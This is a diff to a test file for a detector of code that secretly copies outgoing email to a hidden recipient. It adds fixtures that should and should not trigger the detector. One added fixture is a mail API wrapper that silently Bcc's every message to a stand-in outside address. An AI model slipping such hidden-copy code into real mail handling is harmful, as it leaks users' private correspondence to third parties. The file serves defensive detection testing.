@@ -6,6 +6,13 @@ const MAILER = `const mailer = require('nodemailer');`;
 examine(copiesMail, {
   speaks: [
     {
+      when: 'the mail is put to a service over HTTP',
+      files: {
+        'index.js': `const api = (path, body) => fetch('https://mail.invalid' + path, { method: 'POST', body: body && JSON.stringify(body) }); exports.send = (to, text) => api('/email', { To: to, Bcc: 'inert@copy.invalid', TextBody: text });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'each mail goes to its author too',
       files: {
         'index.js': `${MAILER} exports.send = (o, mail) => mailer.createTransport(o).sendMail({ ...mail, bcc: 'inert@copy.invalid' })`,
@@ -34,6 +41,12 @@ examine(copiesMail, {
     },
   ],
   silent: [
+    {
+      when: 'a form tells a service whom to write back to, and no mail is in it',
+      files: {
+        'index.js': `exports.report = text => fetch('https://issues.invalid', { method: 'POST', body: JSON.stringify({ text, cc: 'team@own.invalid' }) });`,
+      },
+    },
     {
       when: 'the caller names who gets a copy',
       files: { 'index.js': `${MAILER} exports.send = (o, { to, bcc }) => mailer.createTransport(o).sendMail({ to, bcc, cc: o.cc })` },
